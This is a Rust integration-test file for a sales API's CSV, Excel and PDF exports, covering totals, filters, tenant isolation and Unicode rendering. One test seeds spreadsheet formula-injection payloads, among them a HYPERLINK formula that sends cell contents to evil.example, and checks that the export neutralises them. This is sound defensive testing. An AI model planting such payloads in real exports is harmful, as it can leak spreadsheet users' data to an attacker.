//! Exports end to end: the December tenant's orders and invoices exported
//! as CSV, Excel and PDF to the local S3 server, downloaded through their
//! presigned links and parsed back (csv, calamine, pdftotext), values
//! checked against the API's own figures. The PDFs are also rendered to PNG
//! (pdftoppm) under `<target>/export-previews/` for a person to look at.

use std::io::Cursor;
use std::path::PathBuf;

use calamine::{Data, Reader, Xlsx};
use sales_shared::exports::upload::{MultipartUpload, PART_SIZE};
use sales_tests::december::{NOW, TENANT};
use sales_tests::{TestStack, fetch, token};

pub(crate) const BOTH: &str = "sales:read sales:export";

pub(crate) async fn december(name: &str) -> TestStack {
    sales_tests::december::stack(name).await.0
}

/// A source record of `tenant` (version 1, updated at the start of 2025)
/// with the fields of `body`.
fn record(tenant: &str, kind: &str, id: i64, body: serde_json::Value) -> serde_json::Value {
    let mut r = serde_json::json!({"type": kind, "tenant_id": tenant, "id": id, "version": 1,
        "updated_at": "2025-01-01T00:00:00Z"});
    if let (Some(r), Some(body)) = (r.as_object_mut(), body.as_object()) {
        r.extend(body.clone());
    }
    r
}

/// Follows the 303 to the presigned link; returns the file and its headers.
pub(crate) async fn download(
    stack: &TestStack,
    path: &str,
    tenant: &str,
) -> (Vec<u8>, reqwest::header::HeaderMap) {
    let (status, headers, body) = stack.get(path, Some(&token(tenant, BOTH))).await;
    assert_eq!(status, 303, "{path}: {body}");
    let location = headers["location"].to_str().unwrap().to_owned();
    let response = reqwest::get(&location).await.expect("presigned GET");
    assert_eq!(response.status(), 200, "{location}");
    let headers = response.headers().clone();
    (response.bytes().await.unwrap().to_vec(), headers)
}

pub(crate) fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv_rows_split_at(bytes, b',')
}

/// The rows as a spreadsheet whose list separator is `separator` reads
/// them (Excel in many European locales splits at `;`).
fn csv_rows_split_at(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a byte-order mark");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator)
        .from_reader(&bytes[3..]);
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn previews_dir() -> PathBuf {
    let target = std::env::var("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|_| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target"));
    let dir = target.join("export-previews");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// pdftotext's text of a PDF, and its first page rendered to PNG.
fn pdf_text(bytes: &[u8], name: &str) -> String {
    let dir = previews_dir();
    let pdf = dir.join(format!("{name}.pdf"));
    std::fs::write(&pdf, bytes).unwrap();
    let out = std::process::Command::new("pdftotext")
        .args(["-layout"])
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs (poppler-utils, installed by `make test` through infra/local/stack.sh install)");
    assert!(out.status.success(), "pdftotext: {}", String::from_utf8_lossy(&out.stderr));
    let png = std::process::Command::new("pdftoppm")
        .args(["-png", "-r", "60", "-f", "1", "-l", "1"])
        .arg(&pdf)
        .arg(dir.join(name))
        .status()
        .expect("pdftoppm runs");
    assert!(png.success());
    String::from_utf8(out.stdout).unwrap()
}

#[tokio::test]
async fn orders_export_in_every_format() {
    let stack = december("export-orders").await;

    // CSV: December's orders 2..7, the draft included, in date order.
    let (bytes, headers) = download(&stack, "/api/v1/sales/orders/export?format=csv", TENANT).await;
    assert_eq!(
        headers["content-disposition"].to_str().unwrap(),
        "attachment; filename=\"orders-2025-12-01-to-2025-12-31.csv\""
    );
    let rows = csv_rows(&bytes);
    assert_eq!(
        rows[0],
        [
            "Order number",
            "Date",
            "Customer number",
            "Customer",
            "Sales rep",
            "Source",
            "Status",
            "Total",
            "Currency"
        ]
    );
    assert_eq!(
        rows[1],
        [
            "ORD-2",
            "2025-12-01",
            "CUST-00001",
            "Acme",
            "Jane Smith",
            "online_store",
            "completed",
            "300.00",
            "USD"
        ]
    );
    assert_eq!(rows[4][..7], ["ORD-5", "2025-12-10", "CUST-00003", "Gamma", "", "api", "pending"]);
    let numbers: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(numbers, ["ORD-2", "ORD-3", "ORD-4", "ORD-5", "ORD-6", "ORD-7"]);
    // Revenue-bearing rows add up to the API's total revenue.
    let (_, _, metrics) = stack
        .get("/api/v1/sales/orders/performance-metrics", Some(&token(TENANT, "sales:read")))
        .await;
    let revenue: rust_decimal::Decimal = rows[1..]
        .iter()
        .filter(|r| r[6] != "draft" && r[6] != "cancelled")
        .map(|r| r[7].parse::<rust_decimal::Decimal>().unwrap())
        .sum();
    assert_eq!(revenue, sales_tests::dec(&metrics["data"]["order_metrics"]["total_revenue"]));

    // Filters.
    let (bytes, _) =
        download(&stack, "/api/v1/sales/orders/export?format=csv&status=cancelled", TENANT).await;
    assert_eq!(csv_rows(&bytes).len(), 2);
    let (bytes, _) = download(
        &stack,
        "/api/v1/sales/orders/export?format=csv&from_date=2025-11-01&to_date=2025-12-02",
        TENANT,
    )
    .await;
    assert_eq!(
        csv_rows(&bytes)[1..].iter().map(|r| r[0].clone()).collect::<Vec<_>>(),
        ["ORD-1", "ORD-2", "ORD-3"]
    );

    // The JSON form.
    let (status, _, body) = stack
        .get_with(
            "/api/v1/sales/orders/export?format=excel",
            &token(TENANT, BOTH),
            &[("accept", "application/json")],
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["data"]["rows"], 6);
    assert_eq!(body["data"]["format"], "excel");
    assert_eq!(body["data"]["expires_at"], "2025-12-20T12:15:00Z", "15 minutes by default");
    assert!(body["data"]["bytes"].as_u64().unwrap() > 0);
    assert!(body["meta"]["generated_at"].is_string());

    // Excel: numbers as numbers, dates as dates, one sheet.
    let url = body["data"]["url"].as_str().unwrap();
    let xlsx = fetch(url).await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).expect("an xlsx file");
    assert_eq!(book.sheet_names(), ["Orders"]);
    let range = book.worksheet_range("Orders").unwrap();
    assert_eq!(range.height(), 7);
    assert_eq!(range.get((0, 7)), Some(&Data::String("Total".into())));
    assert_eq!(range.get((1, 7)), Some(&Data::Float(300.0)));
    assert!(matches!(range.get((1, 1)), Some(Data::DateTime(_))), "{:?}", range.get((1, 1)));
    assert_eq!(range.get((1, 3)), Some(&Data::String("Acme".into())));

    // PDF: title, tenant, period, summary, chart label, the rows.
    let (pdf, headers) = download(&stack, "/api/v1/sales/orders/export?format=pdf", TENANT).await;
    assert_eq!(headers["content-type"].to_str().unwrap(), "application/pdf");
    let text = pdf_text(&pdf, "orders");
    for expected in [
        "Orders report",
        "Tenant: december",
        "Period: 2025-12-01 to 2025-12-31",
        "6 rows",
        "Total of all rows: 1,649.00 USD",
        "Revenue by day in all: 600.00 USD",
        "cancelled: 1 (50.00)",
        "Revenue by day",
        "ORD-7",
        "Jane Smith",
        "page 1 of 1",
    ] {
        assert!(text.contains(expected), "{expected:?} not in:\n{text}");
    }
}

#[tokio::test]
async fn invoices_export_matches_the_api() {
    let stack = december("export-invoices").await;
    let (bytes, _) = download(&stack, "/api/v1/sales/invoices/export?format=csv", TENANT).await;
    let rows = csv_rows(&bytes);
    assert_eq!(
        rows[0],
        [
            "Invoice number",
            "Issue date",
            "Due date",
            "Customer number",
            "Customer",
            "Status",
            "Total",
            "Paid",
            "Balance",
            "Currency"
        ]
    );
    // Issued in December: 2, 3, 5, 6, 4, 8 by issue date (7 is a draft).
    let by_number: std::collections::BTreeMap<&str, &Vec<String>> =
        rows[1..].iter().map(|r| (r[0].as_str(), r)).collect();
    assert_eq!(by_number.len(), 6);
    assert_eq!(by_number["INV-3"][5..9], ["overdue", "200.00", "50.00", "150.00"]);
    assert_eq!(by_number["INV-5"][5..9], ["paid", "40.00", "0.00", "0.00"]);
    assert_eq!(by_number["INV-6"][5], "cancelled");
    assert_eq!(by_number["INV-8"][5..9], ["partially_paid", "75.00", "30.00", "45.00"]);
    assert_eq!(by_number["INV-4"][5], "sent");
    // Balances add up to the API's total outstanding.
    let (_, _, stats) =
        stack.get("/api/v1/sales/invoices/statistics", Some(&token(TENANT, "sales:read"))).await;
    let balance: rust_decimal::Decimal =
        rows[1..].iter().map(|r| r[8].parse::<rust_decimal::Decimal>().unwrap()).sum();
    assert_eq!(balance, sales_tests::dec(&stats["data"]["financial_metrics"]["total_outstanding"]));
    let (bytes, _) =
        download(&stack, "/api/v1/sales/invoices/export?format=csv&status=paid", TENANT).await;
    assert_eq!(csv_rows(&bytes).len(), 3);

    let (pdf, _) = download(&stack, "/api/v1/sales/invoices/export?format=pdf", TENANT).await;
    let text = pdf_text(&pdf, "invoices");
    for expected in
        ["Invoices report", "Invoiced by day", "INV-8", "partially_paid", "overdue: 1 (200.00)"]
    {
        assert!(text.contains(expected), "{expected:?} not in:\n{text}");
    }
    let (xlsx, _) = download(&stack, "/api/v1/sales/invoices/export?format=excel", TENANT).await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
    let range = book.worksheet_range("Invoices").unwrap();
    assert_eq!(range.height(), 7);
}

#[tokio::test]
async fn empty_exports_bad_requests_and_tenants() {
    let stack = december("export-edges").await;
    let empty = "from_date=2024-01-01&to_date=2024-01-31";
    let (bytes, _) =
        download(&stack, &format!("/api/v1/sales/orders/export?format=csv&{empty}"), TENANT).await;
    assert_eq!(csv_rows(&bytes).len(), 1, "the header alone");
    let (xlsx, _) =
        download(&stack, &format!("/api/v1/sales/orders/export?format=excel&{empty}"), TENANT)
            .await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).unwrap();
    assert_eq!(book.worksheet_range("Orders").unwrap().height(), 1);
    let (pdf, _) =
        download(&stack, &format!("/api/v1/sales/invoices/export?format=pdf&{empty}"), TENANT)
            .await;
    assert!(pdf_text(&pdf, "empty").contains("0 rows"));

    for (path, parameter) in [
        ("/api/v1/sales/orders/export?format=xls", "format"),
        ("/api/v1/sales/orders/export", "format"),
        ("/api/v1/sales/orders/export?format=csv&status=late", "status"),
        ("/api/v1/sales/invoices/export?format=csv&status=shipped", "status"),
        (
            "/api/v1/sales/invoices/export?format=pdf&from_date=2025-12-31&to_date=2025-12-01",
            "from_date",
        ),
        ("/api/v1/sales/invoices/export?fromat=pdf", "fromat"),
    ] {
        let (status, _, body) = stack.get(path, Some(&token(TENANT, BOTH))).await;
        assert_eq!(status, 400, "{path}: {body}");
        assert_eq!(body["error"]["parameter"], parameter, "{path}");
    }
    let (status, _, _) = stack
        .get("/api/v1/sales/orders/export?format=csv", Some(&token(TENANT, "sales:read")))
        .await;
    assert_eq!(status, 403, "sales:export is required");
    let (status, _, _) = stack.get("/api/v1/sales/orders/export?format=csv", None).await;
    assert_eq!(status, 401);

    // Another tenant's export holds none of December's rows, and its link
    // cannot be turned into one for December's key.
    let (status, _, mine) = stack
        .get_with(
            "/api/v1/sales/orders/export?format=csv",
            &token("other", BOTH),
            &[("accept", "application/json")],
        )
        .await;
    assert_eq!(status, 200);
    assert_eq!(mine["data"]["rows"], 0);
    let url = mine["data"]["url"].as_str().unwrap();
    assert!(url.contains("/exports/other/orders/"), "{url}");
    let (_, _, theirs) = stack
        .get_with(
            "/api/v1/sales/orders/export?format=csv",
            &token(TENANT, BOTH),
            &[("accept", "application/json")],
        )
        .await;
    let their_key = theirs["data"]["url"]
        .as_str()
        .unwrap()
        .split('?')
        .next()
        .unwrap()
        .rsplit_once("/exports/")
        .unwrap()
        .1
        .to_owned();
    let (base, query) = url.split_once('?').unwrap();
    let forged =
        format!("{}/exports/{their_key}?{query}", base.rsplit_once("/exports/").unwrap().0);
    let response = reqwest::get(&forged).await.unwrap();
    assert_eq!(response.status(), 403, "a link signed for one key does not open another");
}

#[tokio::test]
async fn a_file_over_one_multipart_part_arrives_whole() {
    let stack = TestStack::new("export-multipart", NOW).await;
    let s3 = sales_shared::aws::s3(&stack.config).await;
    let bucket = &stack.config.exports_bucket;
    let key = "exports/t/big.bin";
    let first: Vec<u8> = (0..PART_SIZE).map(|i| (i % 251) as u8).collect();
    let second = b"the last, smaller part".to_vec();
    let mut upload =
        MultipartUpload::start(&s3, bucket, key, "application/octet-stream", "attachment")
            .await
            .unwrap();
    upload.part(first.clone()).await.unwrap();
    upload.part(second.clone()).await.unwrap();
    let bytes = upload.finish().await.unwrap();
    assert_eq!(bytes, (first.len() + second.len()) as u64);
    let object = s3.get_object().bucket(bucket).key(key).send().await.unwrap();
    let body = object.body.collect().await.unwrap().into_bytes();
    assert_eq!(body.len(), first.len() + second.len());
    assert_eq!(&body[..first.len()], &first[..]);
    assert_eq!(&body[first.len()..], &second[..]);
}

#[tokio::test]
async fn text_that_starts_like_a_formula_is_neutralised_in_csv_and_stays_text_in_excel() {
    const HOSTILE: &str = "hostile";
    let mut stack = TestStack::new("export-hostile", NOW).await;
    let at = "2025-01-01T00:00:00Z";
    let record = |kind: &str, id: i64, body: serde_json::Value| record(HOSTILE, kind, id, body);
    let hyperlink = "=HYPERLINK(\"http://evil.example\",\"x\")";
    // A formula after a `;`: a live one where `;` separates cells, if the
    // cell were written unquoted.
    const SEMICOLON: &str = "x;=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")";
    let records = [
        record("tenant_settings", 1, serde_json::json!({"time_zone": "UTC", "currency": "USD"})),
        record(
            "customer",
            1,
            serde_json::json!({"customer_number": "+SUM(1+1)", "company_name": hyperlink,
                "email": "a@evil.example", "created_at": at}),
        ),
        record(
            "customer",
            2,
            serde_json::json!({"customer_number": "C-2", "company_name": SEMICOLON,
                "email": "b@evil.example", "created_at": at}),
        ),
        record("sales_rep", 5, serde_json::json!({"name": "@SUM(1,1)"})),
        record(
            "order",
            2,
            serde_json::json!({"order_number": "O-2", "customer_id": 2, "sales_rep_id": 5, "source": "api",
                "status": "completed", "currency": "USD", "total_amount": "3.00",
                "ordered_at": "2025-12-11T12:00:00Z"}),
        ),
        record(
            "order",
            1,
            serde_json::json!({"order_number": "-2+3", "customer_id": 1, "sales_rep_id": 5, "source": "api",
                "status": "completed", "currency": "USD", "total_amount": "12.50",
                "ordered_at": "2025-12-10T12:00:00Z"}),
        ),
    ];
    let summary = stack.load_and_apply(HOSTILE, &records).await;
    assert!(summary.rejected.is_empty(), "{:?}", summary.rejected);

    let (bytes, _) = download(&stack, "/api/v1/sales/orders/export?format=csv", HOSTILE).await;
    let rows = csv_rows(&bytes);
    assert_eq!(
        rows[1],
        [
            "'-2+3",
            "2025-12-10",
            "'+SUM(1+1)",
            &format!("'{hyperlink}"),
            "'@SUM(1,1)",
            "api",
            "completed",
            "12.50",
            "USD"
        ]
    );
    assert_eq!(
        rows[2][3], "x;'=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")",
        "one cell, the piece after `;` neutralised"
    );
    // Read with either separator, no cell starts a formula.
    for separator in [b',', b';'] {
        for row in csv_rows_split_at(&bytes, separator) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "split at {:?}: {cell:?}",
                    separator as char
                );
            }
        }
    }

    let (status, _, body) = stack
        .get_with(
            "/api/v1/sales/orders/export?format=excel",
            &token(HOSTILE, BOTH),
            &[("accept", "application/json")],
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let xlsx = fetch(body["data"]["url"].as_str().unwrap()).await;
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(xlsx)).expect("an xlsx file");
    let range = book.worksheet_range("Orders").unwrap();
    assert_eq!(
        range.get((1, 0)),
        Some(&Data::String("-2+3".into())),
        "Excel text is stored as text"
    );
    assert_eq!(range.get((1, 3)), Some(&Data::String(hyperlink.into())));
    assert_eq!(range.get((1, 7)), Some(&Data::Float(12.5)));
    assert!(
        book.worksheet_formula("Orders").unwrap().used_cells().all(|(_, _, f)| f.is_empty()),
        "no formulas"
    );
}

/// Names in Polish, Greek, Cyrillic and Turkish print in the PDF (the
/// embedded DejaVu Sans) and extract back unchanged.
#[tokio::test]
async fn pdfs_print_names_in_every_script() {
    const TENANT_U: &str = "unicode";
    const NAMES: [&str; 4] = ["Łódź Trading", "Αθηνά ΑΕ", "ООО Ромашка", "İstanbul Gıda"];
    let mut stack = TestStack::new("export-unicode", NOW).await;
    let at = "2025-01-01T00:00:00Z";
    let record = |kind: &str, id: i64, body: serde_json::Value| record(TENANT_U, kind, id, body);
    let mut records = vec![record(
        "tenant_settings",
        1,
        serde_json::json!({"time_zone": "Europe/Warsaw", "currency": "PLN"}),
    )];
    for (i, name) in NAMES.iter().enumerate() {
        let id = i as i64 + 1;
        records.push(record(
            "customer",
            id,
            serde_json::json!({"customer_number": format!("C-{id}"), "company_name": name, "created_at": at}),
        ));
        records.push(record(
            "order",
            id,
            serde_json::json!({"order_number": format!("Zamówienie-{id}"), "customer_id": id, "source": "online_store",
                "status": "completed", "currency": "PLN", "total_amount": "99.90",
                "ordered_at": format!("2025-12-0{id}T12:00:00Z")}),
        ));
    }
    let summary = stack.load_and_apply(TENANT_U, &records).await;
    assert!(summary.rejected.is_empty(), "{:?}", summary.rejected);

    let (pdf, _) = download(
        &stack,
        "/api/v1/sales/orders/export?format=pdf&from_date=2025-12-01&to_date=2025-12-31",
        TENANT_U,
    )
    .await;
    let text = pdf_text(&pdf, "unicode-names");
    for name in NAMES {
        assert!(text.contains(name), "`{name}` not extracted from the PDF:\n{text}");
    }
    assert!(text.contains("Zamówienie-1"), "{text}");
    assert!(
        !text.contains('?') && !text.contains('\u{FFFD}'),
        "no replacement characters:\n{text}"
    );
}
